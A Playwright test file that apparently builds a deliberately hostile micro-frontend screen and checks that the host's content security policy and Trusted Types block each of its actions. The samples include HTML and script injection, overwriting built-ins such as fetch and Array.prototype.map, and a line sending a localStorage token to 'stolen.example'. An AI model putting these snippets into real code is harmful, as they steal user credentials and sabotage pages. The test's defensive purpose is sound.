import type { Page } from '@playwright/test'
import { publish } from '@yaksok/platform/release'
import { expect, test } from '@yaksok/testing'
import { buildNewRemote } from '../src/new-part.ts'
import { goInside, untilComposed } from '../src/screens.ts'
import { copyStore } from '../src/store.ts'

const store = copyStore()
test.use({ appOptions: { store }, expectedErrors: [[/./], { scope: 'test' }] })

let version = ''

/** What its buttons do, each by itself; what a button said of it is beside them. */
const DEEDS: Readonly<Record<string, string>> = {
  html: "document.createElement('p').innerHTML = '<img>'",
  script: "document.createElement('script').src = '/api/assets/a'",
  policy:
    "(window as any).TrustedTypePolicyFactory.prototype.createPolicy.call((window as any).trustedTypes, 'mine', {})",
  // what a framework makes for itself is one that trusts nothing
  trusting:
    "document.createElement('p').innerHTML = (window as any).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }).createHTML('<img>')",
  history: 'history.pushState = () => {}',
  fetch: 'window.fetch = async () => new Response()',
  json: 'JSON.parse = () => null',
  // the tests' browsers take no worker: the same function, of no registration
  worker: 'void ServiceWorkerRegistration.prototype.unregister.call({} as ServiceWorkerRegistration)',
  webrtc: 'void new RTCPeerConnection().setLocalDescription()',
  send: "void fetch('https://stolen.example/?token=' + localStorage.getItem('token'))",
  map: 'Array.prototype.map = () => []',
}

const SCREEN = `import { AppBar, Screen } from '@yaksok/shared/page/ui'
const deeds: [string, () => void][] = [${Object.entries(DEEDS)
  .map(([name, deed]) => `['${name}', () => { ${deed} }]`)
  .join(', ')}]
export default function Evil() {
  return (
    <Screen bar={<AppBar title="나쁜 화면" />}>
      {deeds.map(([name, deed]) => (
        <button key={name} type="button" onClick={deed}>{name}</button>
      ))}
    </Screen>
  )
}
`

test.beforeAll(async () => {
  const release = await buildNewRemote(store, {
    name: 'evil',
    description: { routes: [{ path: '/Evil', screen: 'main', title: '나쁜 화면', tabBar: true }] },
    sources: { 'main/index.tsx': SCREEN },
  })
  await publish(store, release)
  version = release.version
})

interface Told {
  remote: string
  type: string
  message?: string
}

/** What the page tells the gateway, filled as it does. */
function toldBy(page: Page): Told[] {
  const told: Told[] = []
  page.on('request', (request) => {
    if (new URL(request.url()).pathname !== '/telemetry') return
    const { events } = JSON.parse(request.postData() ?? '{"events":[]}') as { events: Told[] }
    told.push(...events.filter(({ message }) => message))
  })
  return told
}

async function openEvil(page: Page): Promise<void> {
  await untilComposed(page, 'evil', version)
  const observing = page.waitForResponse(/\/r\/shell\/.*telemetry/)
  await page.goto('/Evil')
  await observing
}

/** Has the page tell what waits. */
const leave = (page: Page) => page.evaluate(() => dispatchEvent(new Event('pagehide')))

for (const [deed, said] of [
  ['html', /TrustedHTML|require-trusted-types-for/],
  ['script', /TrustedScriptURL|require-trusted-types-for/],
  ['policy', /trusted-types|createPolicy/],
  ['trusting', /TrustedHTML|require-trusted-types-for/],
  ['history', /pushState/],
  ['fetch', /'fetch'/],
  ['json', /'parse'/],
  ['worker', /does not allow/],
  ['webrtc', /does not allow/],
  ['send', /connect-src https:\/\/stolen\.example$/],
  ['map', /replaced Array\.prototype\.map/],
] as const)
  test(`${deed}: refused, told as the remote’s that tried, and nothing ends for the others`, async ({ page }) => {
    const told = toldBy(page)
    await openEvil(page)
    await page.getByRole('button', { name: deed, exact: true }).click()
    // a tap finds what others need as it was
    await page.getByRole('navigation', { name: '주요 메뉴' }).getByRole('link', { name: '내 정보' }).click()
    await expect(page.getByText('홍길동').first()).toBeVisible()
    await expect(page).toHaveURL(/\/Mine$/)
    await goInside(page, '/Evil')
    await expect(page.getByRole('button', { name: deed, exact: true })).toBeVisible()
    await leave(page)
    await expect.poll(() => told.some(({ message = '' }) => said.test(message))).toBe(true)
    expect([...new Set(told.map(({ remote }) => remote))]).toEqual(['evil'])
    expect(JSON.stringify(told)).not.toContain('token=')
  })

test('the page’s policy is enforced, with one policy of Trusted Types', async ({ page }) => {
  const policy = (await page.request.get('/Home')).headers()['content-security-policy']
  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types default")
})
